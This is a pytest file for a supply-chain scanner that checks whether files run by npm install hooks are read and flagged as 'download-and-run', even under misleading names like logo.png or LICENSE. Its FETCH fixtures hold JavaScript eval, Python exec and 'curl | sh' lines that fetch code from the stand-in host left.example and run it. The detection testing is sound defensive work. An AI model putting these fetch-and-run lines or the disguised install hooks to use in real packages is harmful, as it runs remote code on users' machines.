"""Files that are run under names that tell no language are read all the same, and never silent."""

from __future__ import annotations

import json
import tarfile
from pathlib import Path

import pytest

from fimci import followed, sides
from fimci.model import Capability, Digest, Record, Unread
from fimci.snapshot import Entry
from fimci.sources.locator import Locator

FETCH = {
    "javascript": "require('https').get('https://left.example/a', r => r.on('data', d => eval(`${d}`)))\n",
    "python": "import urllib.request\nexec(urllib.request.urlopen('https://left.example/a').read())\n",
    "shell": "curl https://left.example/a | sh\n",
}


def package(folder: Path, scripts: dict[str, str], files: dict[str, str | bytes]) -> Path:
    folder.mkdir(parents=True)
    manifest = {"name": "left", "version": "1.0.0", "scripts": scripts}
    for name, content in {"package.json": json.dumps(manifest), **files}.items():
        data = content if isinstance(content, bytes) else content.encode()
        (folder / name).write_bytes(data)
    return folder


def found(locator: Locator) -> list[Record]:
    return list(sides.snapshot(locator, sides.recipe(code=True)).records)


def told(folder: Path) -> set[tuple[str, str, str]]:
    records = found(Locator("dir", str(folder)))
    return {(r.path, r.name, r.phase) for r in records if isinstance(r, Capability)}


@pytest.mark.parametrize(
    ("command", "name", "language"),
    [
        ("node ./data.bin", "data.bin", "javascript"),
        ("node x.dat", "x.dat", "javascript"),
        ("node LICENSE", "LICENSE", "javascript"),
        ("node logo.png", "logo.png", "javascript"),
        ("python3 y.img", "y.img", "python"),
        ("bash z.cfg", "z.cfg", "shell"),
        ("sh payload && true", "payload", "shell"),
    ],
)
def test_what_a_script_runs_is_read(tmp_path: Path, command: str, name: str, language: str) -> None:
    run = package(tmp_path / "run", {"postinstall": command}, {name: FETCH[language]})
    assert (name, "download-and-run", "install") in told(run)
    idle = package(tmp_path / "idle", {}, {name: FETCH[language]})
    assert {one for one in told(idle) if one[0] == name and one[1] == "download-and-run"} == set()


def test_in_archives_and_commits(tmp_path: Path) -> None:
    folder = package(tmp_path / "package", {"postinstall": "node x.dat"}, {"x.dat": FETCH["javascript"]})
    with tarfile.open(tmp_path / "left.tgz", "w:gz") as archive:
        archive.add(folder, "package")
    packed = found(Locator("archive", str(tmp_path / "left.tgz")))
    assert ("x.dat", "download-and-run") in {(r.path, r.name) for r in packed if isinstance(r, Capability)}


def test_what_it_loads_is_read_too(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "first.dat": "const a = require('./second.dat')\n",
        "second.dat": FETCH["javascript"],
        "index.js": "require('./style.css'); require('./README.md'); require('./left.svg')\n",
        "style.css": ".left { color: red }\n",
        "README.md": f"# Left\n\n```js\n{FETCH['javascript']}\n```\n",
        "left.svg": FETCH["javascript"],
    }
    loaded = told(package(tmp_path / "left", {"install": "node first.dat"}, files))
    assert ("second.dat", "download-and-run", "install") in loaded
    assert ("left.svg", "download-and-run", "import") in loaded  # a name is no reason not to run it
    assert not any(path in {"style.css", "README.md"} for path, _, _ in loaded)


def test_what_looks_like_nothing_is_told(tmp_path: Path) -> None:
    odd = package(tmp_path / "left", {"install": "node x.dat"}, {"x.dat": "no code at all\n"})
    assert ("x.dat", "unanalyzed", "install") in told(odd)


def test_a_second_reading_is_of_the_same_bytes() -> None:
    def entry(data: bytes) -> Entry:
        return Entry(path="x.dat", read=lambda: iter((data,)))

    asked = {"x.dat": Digest("sha256", "00" * 32)}
    assert list(followed.records(asked, [entry(b"true\n")])) == [
        Unread(path="x.dat", why="changed while it was read")
    ]
    (large,) = followed.records(asked, [entry(b"#" * (followed.LIMIT + 1))])
    assert isinstance(large, Unread)
    assert "is run, and larger" in large.why
